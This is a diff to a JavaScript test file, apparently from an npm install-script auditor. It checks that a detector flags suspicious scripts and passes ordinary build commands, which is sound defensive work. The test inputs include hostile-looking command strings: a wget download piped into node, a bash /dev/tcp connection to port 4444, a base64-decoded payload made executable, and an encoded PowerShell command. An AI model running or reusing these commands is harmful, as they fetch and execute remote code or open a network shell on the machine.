@@ -120,8 +120,9 @@ test('install scripts that download, decode or evaluate code are singled out', a
   assert.equal(suspiciousScript('wget -qO- https://x.invalid/p | node'), 'downloads and runs code');
   assert.equal(suspiciousScript('bash -c "exec 3<>/dev/tcp/10.0.0.1/4444"'), 'makes network connections');
   assert.equal(suspiciousScript('echo aGVsbG8= | base64 -d > /tmp/x && chmod +x /tmp/x'), 'decodes an embedded payload');
-  assert.equal(suspiciousScript('node -e "require(\'child_process\').exec(process.env.X)"'), 'runs inline code');
-  for (const ordinary of ['node-gyp rebuild', 'node install.js', 'prebuild-install || node-gyp rebuild', 'node scripts/postinstall.js', 'husky install', 'opencollective-postinstall || exit 0', 'patch-package']) {
+  assert.equal(suspiciousScript('powershell -NoP -enc SQBFAFgA'), 'runs an encoded PowerShell command');
+  // Inline code is not judged by its script text: the parser reads it (test/audit/code.test.ts).
+  for (const ordinary of ['node -e "import(\'./config/scripts/postinstall.js\').catch(() => void 0)"', 'node-gyp rebuild', 'node install.js', 'prebuild-install || node-gyp rebuild', 'node scripts/postinstall.js', 'husky install', 'opencollective-postinstall || exit 0', 'patch-package']) {
     assert.equal(suspiciousScript(ordinary), undefined, ordinary);
   }
 });
